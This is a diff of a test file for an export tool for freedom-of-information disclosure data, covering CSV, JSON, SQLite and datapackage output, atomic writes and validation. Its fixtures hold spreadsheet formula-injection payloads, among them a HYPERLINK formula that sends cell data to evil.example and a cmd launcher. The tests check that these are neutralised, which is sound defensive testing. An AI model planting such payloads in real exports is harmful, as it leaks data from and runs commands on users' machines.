@@ -4,10 +4,12 @@ import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSyn
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { fieldsOf } from '../../src/export/fields.js';
+import { EXPORT_MARKER } from '../../src/export/atomic.js';
+import { datasetFieldsOf } from '../../src/export/fields.js';
 import { formatViolation, validatePath } from '../../src/export/validate.js';
 import { writeExport } from '../../src/export/write.js';
-import { TABLES, type TableName } from '../../src/records/schema.js';
+import { applyCorrections } from '../../src/corrections/apply.js';
+import { DATASET_TABLES, type DatasetTable as TableName } from '../../src/records/schema.js';
 import { hostileDisclosure, sampleDisclosure } from './store-sample.js';
 
 let dir: string;
@@ -21,15 +23,20 @@ afterEach(() => {
 
 const DATA = [hostileDisclosure(), sampleDisclosure()];
 const ALL = ['csv', 'json', 'ndjson', 'sqlite'] as const;
+const TABLES = DATASET_TABLES;
+/** What an export writes for an uncorrected record: every row marked corrected: false. */
+const marked = DATA.map((d) => applyCorrections(d, []).record);
 const read = (name: string, out = join(dir, 'out')) => readFileSync(join(out, name));
 
 describe('writeExport files', () => {
   it('writes every format, and nothing else in the target', async () => {
     const files = await writeExport(DATA, { out: join(dir, 'out'), formats: [...ALL], changes: { none: true } });
     const tables = Object.keys(TABLES).map((t) => `${t}.csv`);
-    expect(files).toEqual([...tables, 'datapackage.json', 'disclosures.json', 'disclosures.ndjson', 'foi-harvest.sqlite', 'metadata.json', 'changes.json']);
-    expect(readdirSync(join(dir, 'out')).sort()).toEqual([...files].sort());
-    expect(readdirSync(dir)).toEqual(['out']); // staging directory gone
+    expect(tables[0]).toBe('figures_flat.csv');
+    expect(files).toEqual([...tables, 'datapackage.json', 'disclosures.json', 'figures_flat.json', 'disclosures.ndjson', 'figures_flat.ndjson', 'foi-harvest.sqlite', 'metadata.json', 'changes.json']);
+    expect(readdirSync(join(dir, 'out')).sort()).toEqual([...files, EXPORT_MARKER].sort());
+    // `out` links to the one set; the staging directory is gone.
+    expect(readdirSync(dir).filter((n) => n !== 'out' && !n.startsWith('.out.set-'))).toEqual([]);
   });
 
   it('neutralises formulas in text cells but keeps negative numbers numeric (on the bytes)', async () => {
@@ -38,15 +45,32 @@ describe('writeExport files', () => {
     expect(disclosures.startsWith('id,force,kind,reference,publication_ref,title,url,')).toBe(true);
     expect(disclosures).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`);
     expect(disclosures).toContain(`,"'+cmd|"" /C calc""!A0",`);
-    expect(disclosures).toContain(`,'@SUM(1+1); -2+3; \tTabbed; '=already quoted\r\n`);
+    // warnings, then the sources' columns (source, source_state, duplicate_of), then the correction marks.
+    expect(disclosures).toContain(`,'@SUM(1+1); -2+3; \tTabbed; '=already quoted,west-midlands,,,false,\r\n`);
     const figures = read('figures.csv').toString('utf8').split('\r\n');
-    expect(figures[0]).toBe(fieldsOf('figures').map((f) => f.name).join(','));
-    expect(figures[2]).toBe(`unknown/u-0123456789ab,2,-3,cases,other,,,,,,,,,,,true,change: -3,xlsx:Sheet1!B4,${'b'.repeat(64)}`);
+    expect(figures[0]).toBe(datasetFieldsOf('figures').map((f) => f.name).join(','));
+    expect(figures[0].endsWith(',text,locator,sha256,corrected,correction_reason')).toBe(true);
+    expect(figures[2]).toBe(`unknown/u-0123456789ab,2,-3,cases,other,,,,,,,,,,,true,change: -3,xlsx:Sheet1!B4,${'b'.repeat(64)},false,`);
     expect(figures[1]).toContain(",21,officers,convicted,1,2019-01-01,2023-12-31,2021,'-minus first,driving,male,PC,suspended,\"Total, 2021\",false,");
     // Multi-line text is quoted (RFC 4180), lists joined with "; ", booleans true/false.
     expect(disclosures).toContain(`,"Please tell me:\n1. How many officers were convicted, 2019-2023?",`);
     expect(disclosures).toContain(',partial,false,false,convictions; suspensions,');
     expect(read('disclosures.csv')[0]).toBe('i'.charCodeAt(0)); // no BOM by default
+  });
+
+  it('records the guard in datapackage.json, and with formulaGuard: false writes every cell verbatim (still valid)', async () => {
+    await writeExport(DATA, { out: join(dir, 'out'), formats: ['csv'] });
+    expect(JSON.parse(read('datapackage.json').toString()).formulaGuard).toMatchObject({ applied: true, prefix: "'" });
+    await writeExport(DATA, { out: join(dir, 'raw'), formats: ['csv'], formulaGuard: false });
+    const raw = read('disclosures.csv', join(dir, 'raw')).toString('utf8');
+    expect(raw).toContain(`,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",`);
+    expect(raw).toContain(`,@SUM(1+1); -2+3; \tTabbed; '=already quoted,west-midlands,,,false,\r\n`);
+    expect(read('figures.csv', join(dir, 'raw')).toString('utf8')).toContain(',-minus first,');
+    const pkg = JSON.parse(read('datapackage.json', join(dir, 'raw')).toString());
+    expect(pkg.formulaGuard).toMatchObject({ applied: false });
+    // The validator reads the cells back as written: no apostrophe taken off what had none.
+    const report = await validatePath(join(dir, 'raw'));
+    expect(report.violations.map(formatViolation)).toEqual([]);
   });
 
   it('adds a UTF-8 BOM with excel', async () => {
@@ -56,11 +80,11 @@ describe('writeExport files', () => {
 
   it('writes JSON and NDJSON that parse back to the disclosures', async () => {
     await writeExport(DATA, { out: join(dir, 'out'), formats: ['json', 'ndjson'] });
-    expect(JSON.parse(read('disclosures.json').toString())).toEqual(DATA);
+    expect(JSON.parse(read('disclosures.json').toString())).toEqual(marked);
     const lines = read('disclosures.ndjson').toString().split('\n');
     expect(lines).toHaveLength(3);
     expect(lines[2]).toBe('');
-    expect(lines.slice(0, 2).map((l) => JSON.parse(l))).toEqual(DATA);
+    expect(lines.slice(0, 2).map((l) => JSON.parse(l))).toEqual(marked);
   });
 
   it('is byte-identical when run twice', async () => {
@@ -90,9 +114,11 @@ describe('datapackage.json', () => {
     }
     const field = (t: TableName, n: string) => pkg.resources.find((r: { name: string }) => r.name === t).schema.fields.find((f: { name: string }) => f.name === n);
     expect(field('figures', 'value')).toEqual({ name: 'value', type: 'number', description: 'the number as given', constraints: { required: true } });
-    expect(field('figures', 'year')).toEqual({ name: 'year', type: 'integer' });
-    expect(field('periods', 'start')).toEqual({ name: 'start', type: 'date' });
-    expect(field('figures', 'gender')).toEqual({ name: 'gender', type: 'string', constraints: { enum: ['male', 'female', 'other', 'unknown'] } });
+    expect(field('figures', 'year')).toMatchObject({ name: 'year', type: 'integer' });
+    expect(field('periods', 'start')).toMatchObject({ name: 'start', type: 'date' });
+    expect(field('figures', 'gender')).toMatchObject({ name: 'gender', type: 'string', constraints: { enum: ['male', 'female', 'other', 'unknown'] } });
+    // The data dictionary is complete: every column of every table says what it holds.
+    for (const res of pkg.resources) for (const f of res.schema.fields) expect(f.description, `${res.name}.${f.name}`).toMatch(/\w{3}/);
     expect(field('disclosures', 'ncnd')).toMatchObject({ type: 'boolean', trueValues: ['true'], falseValues: ['false'], constraints: { required: true } });
     expect(field('disclosures', 'topics').type).toBe('string');
     expect(field('disclosures', 'topics').description).toContain('joined with "; "');
@@ -108,7 +134,8 @@ describe('SQLite export', () => {
     try {
       for (const t of Object.keys(TABLES)) {
         const cols = (db.prepare(`PRAGMA table_info(${t})`).all() as Array<{ name: string; pk: number }>);
-        expect(cols.map((c) => c.name), t).toEqual(fieldsOf(t as TableName).map((f) => f.name));
+        if (t === 'figures_flat') continue; // a view: checked below
+        expect(cols.map((c) => c.name), t).toEqual(datasetFieldsOf(t as TableName).map((f) => f.name));
         expect(cols.filter((c) => c.pk).map((c) => c.name)).toEqual(t === 'disclosures' ? ['id'] : ['disclosure_id', 'ordinal']);
       }
       expect(db.prepare('PRAGMA foreign_key_list(figures)').all()).toMatchObject([{ table: 'disclosures', from: 'disclosure_id', to: 'id', on_delete: 'CASCADE' }]);
@@ -133,13 +160,13 @@ describe('atomicity', () => {
     const before = Object.fromEntries(readdirSync(out).map((f) => [f, read(f)]));
     process.env.FOI_HARVEST_TEST_EXPORT_FAULT = 'fail';
     await expect(writeExport(DATA, { out, formats: ['csv', 'json', 'sqlite'] })).rejects.toThrow('injected failure');
-    expect(readdirSync(dir)).toEqual(['out']);
+    expect(readdirSync(dir).filter((n) => n.includes('.export-'))).toEqual([]);
     expect(Object.fromEntries(readdirSync(out).map((f) => [f, read(f)]))).toEqual(before);
   });
 
   it('refuses a target that is a file, naming it', async () => {
     writeFileSync(join(dir, 'file'), 'x');
-    await expect(writeExport(DATA, { out: join(dir, 'file'), formats: ['json'] })).rejects.toThrow(`${join(dir, 'file')} is not a directory`);
+    await expect(writeExport(DATA, { out: join(dir, 'file'), formats: ['json'] })).rejects.toThrow(`--out ${join(dir, 'file')}: is not a directory`);
   });
 
   it('removes staging directories of killed exports', async () => {
@@ -150,7 +177,7 @@ describe('atomicity', () => {
       mkdirSync(d);
     }
     await writeExport(DATA, { out: join(dir, 'out'), formats: ['json'] });
-    expect(readdirSync(dir).sort()).toEqual(['.out.export-' + process.pid + '-zzzzzz', 'out']);
+    expect(readdirSync(dir).filter((n) => !n.startsWith('.out.set-')).sort()).toEqual(['.out.export-' + process.pid + '-zzzzzz', 'out']);
   });
 });
 
@@ -159,9 +186,9 @@ describe('validate', () => {
     await writeExport(DATA, { out: join(dir, 'out'), formats: ['csv', 'json', 'ndjson'], excel: true });
     const r = await validatePath(join(dir, 'out'));
     expect(r.violations.map(formatViolation)).toEqual([]);
-    expect(r.files.length).toBe(10);
-    expect(r.rows).toBe(2 + 2 + 2 + 2 + 4 + 2 + 2 + 2 + 2); // 7 CSV tables, then JSON and NDJSON
-    for (const f of ['figures.csv', 'disclosures.json', 'disclosures.ndjson', 'datapackage.json']) {
+    expect(r.files.length).toBe(13); // + figures_flat.csv, .json, .ndjson
+    expect(r.rows).toBe(4 + 2 + 2 + 2 + 2 + 4 + 2 + 2 + (2 + 4) + (2 + 4)); // figures_flat + 7 CSV tables, then JSON and NDJSON, each + figures_flat
+    for (const f of ['figures.csv', 'figures_flat.csv', 'disclosures.json', 'figures_flat.json', 'figures_flat.ndjson', 'disclosures.ndjson', 'datapackage.json']) {
       expect((await validatePath(join(dir, 'out', f))).violations, f).toEqual([]);
     }
   });
